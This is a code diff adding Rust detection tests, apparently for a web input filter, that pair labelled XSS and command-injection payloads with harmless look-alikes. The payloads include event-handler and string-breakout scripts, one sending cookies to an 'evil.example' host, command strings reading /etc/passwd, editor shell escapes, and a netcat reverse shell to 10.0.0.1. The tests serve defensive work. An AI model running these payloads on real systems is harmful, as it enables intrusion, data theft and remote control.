@@ -176,3 +176,209 @@ fn session_002_generic_names_only_with_an_off_site_referer() {
         evil,
     ));
 }
+
+// ---- XSS ----
+
+#[test]
+fn xss_114_any_event_handler_given_code() {
+    attack("xss-114", "query", "q", "x onpointerrawupdate=alert(1) y");
+    attack(
+        "xss-114",
+        "json",
+        "bio",
+        "\" onbeforetoggle=top.alert`1` x=\"",
+    );
+    attack(
+        "xss-114",
+        "form",
+        "name",
+        "' oncontentvisibilityautostatechange=eval(name) '",
+    );
+    attack(
+        "xss-114",
+        "cookie",
+        "pref",
+        "a/onanything=javascript:alert(1)",
+    );
+    benign(
+        "json",
+        "note",
+        "The online=true flag and onboarding = done are set.",
+    );
+    benign(
+        "form",
+        "code",
+        "window.onload = init(); button.onclick = handle(evt);",
+    );
+    benign("query", "q", "onsale=yes");
+}
+
+#[test]
+fn xss_115_js_string_breakout() {
+    attack("xss-115", "query", "q", "';alert(1)//");
+    attack("xss-115", "json", "name", "\"-prompt(8)-\"");
+    attack(
+        "xss-115",
+        "header",
+        "x",
+        "'+document.location='http://evil.example/?c'+x+'",
+    );
+    attack(
+        "xss-115",
+        "form",
+        "redirect",
+        "\");top.location.href=\"//evil.example",
+    );
+    benign(
+        "json",
+        "note",
+        "She said \"alert\" - and then confirm the booking (tomorrow).",
+    );
+    benign(
+        "form",
+        "comment",
+        "Set \"location\" = \"Paris\"; the document's location is fine.",
+    );
+}
+
+#[test]
+fn xss_116_dialog_execution_proofs() {
+    attack("xss-116", "query", "q", "alert(1)");
+    attack("xss-116", "json", "name", "prompt(document.domain)");
+    attack("xss-116", "form", "c", "confirm`1`");
+    attack("xss-116", "cookie", "theme", "alert(/xss/.source)");
+    benign("query", "comment", "alert('Saved!')");
+    benign(
+        "json",
+        "note",
+        "Set an alert (1 per day) and confirm (yes) to proceed.",
+    );
+}
+
+#[test]
+fn xss_117_us_ascii_high_bit_tags() {
+    attack(
+        "xss-117",
+        "query_pre",
+        "q",
+        "%BCscript%BEalert(1)%BC/script%BE",
+    );
+    attack(
+        "xss-117",
+        "json",
+        "recipe",
+        "\u{bc}svg onload=alert(1)\u{be}",
+    );
+    benign(
+        "json",
+        "recipe",
+        "Add \u{bc} cup sugar and \u{be} cup flour to the body of the mix.",
+    );
+    benign("form", "amount", "\u{bc} img \u{bd} size");
+}
+
+#[test]
+fn xss_extensions_round5() {
+    // xss-104: VML frames with an empty prefix, glued `importimplementation`.
+    attack("xss-104", "cookie", "t", "<:vmlframe src=x>");
+    attack("xss-104", "query", "t", "<?importimplementation=x>");
+    // xss-112: JSFuck with `+` sent as a space in a form.
+    attack("xss-112", "form_pre", "a", "(![]+[])[+!+[]]");
+    attack("xss-112", "query_pre", "a", "x=+!![]");
+    // xss-106: timers and constructors given code.
+    attack("xss-106", "json", "q", "setTimeout(atob('YWxlcnQoMSk='))");
+    attack("xss-106", "query", "q", "[].map.constructor('alert(1)')()");
+    benign(
+        "json",
+        "code",
+        "setTimeout(refresh, 1000); const items = [];",
+    );
+    benign("form", "note", "an empty list is fine; see the vml docs");
+}
+
+// ---- command injection ----
+
+#[test]
+fn cmdi_124_empty_substitution_in_a_word() {
+    attack("cmdi-124", "query", "x", "ping$() 127.0.0.1");
+    attack("cmdi-124", "form", "x", "pi$()ng 127.0.0.1");
+    attack("cmdi-124", "json", "x", "pi<()ng 127.0.0.1");
+    benign("json", "code", "fn unit() -> Vec<()> { Vec::new() }");
+    benign("query", "q", "use $() in jQuery or Result<(), E>");
+}
+
+#[test]
+fn cmdi_126_variable_as_command_after_assignment() {
+    attack("cmdi-126", "form", "cmd", "garb=adduse[r];$garb pizza");
+    attack(
+        "cmdi-126",
+        "query",
+        "cmd",
+        "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
+    );
+    attack("cmdi-126", "json", "exec", "c1=c;c2=at;$c1$c2 /etc/hosts");
+    benign(
+        "json",
+        "code",
+        "$a=1;$b = 2; $c=3;$d->run(); $e=4;$f .= 'x'",
+    );
+    benign("cookie", "legacy", "$Version=1; $Path=/");
+    benign("form", "path", "PATH=/usr/bin;$HOME/bin");
+}
+
+#[test]
+fn cmdi_127_cmd_exe_quoted_comparison() {
+    attack("cmdi-127", "query", "foo", "if [AA] == [AA] echo same");
+    attack("cmdi-127", "form", "foo", "if \"A A\" == \"A A\" echo same");
+    attack("cmdi-127", "json", "script", "x & if [%1]==[] goto end");
+    benign("json", "code", "if [ \"$a\" == \"b\" ]; then echo ok; fi");
+    benign(
+        "form",
+        "code",
+        "if (\"a\" == \"b\") { run(); } and if \"a\" == x: pass",
+    );
+}
+
+#[test]
+fn cmdi_128_editor_shell_escape() {
+    attack(
+        "cmdi-128",
+        "form",
+        "code",
+        ";vim dddd +silent\\ \\!whoami +wq",
+    );
+    attack("cmdi-128", "query", "code", "|vi -c ':!id'");
+    attack("cmdi-128", "json", "code", "ex -c:!pwd");
+    benign(
+        "json",
+        "note",
+        "Open it in vim +42 and save! Then use ex mode.",
+    );
+    benign("form", "note", "vi -c is an option; see :help +cmd!");
+}
+
+#[test]
+fn cmdi_extensions_round5() {
+    // cmdi-111: `if cmdextversion`.
+    attack(
+        "cmdi-111",
+        "query",
+        "foo",
+        "IF CMDEXTVERSION 1 GOTO start_process",
+    );
+    // cmdi-114: sqlite3 dot-commands after a written `\n`.
+    attack(
+        "cmdi-114",
+        "query",
+        "foo",
+        ";\\n.shell nc 10.0.0.1 6666 -e sh\\n",
+    );
+    // cmdi-113: `flock` as a launcher.
+    attack("cmdi-113", "form", "code", "flock -u / whoami");
+    benign(
+        "json",
+        "note",
+        "If cmdextversion is unknown, read the docs.",
+    );
+    benign("form", "note", "flock of birds near the docker yard");
+}
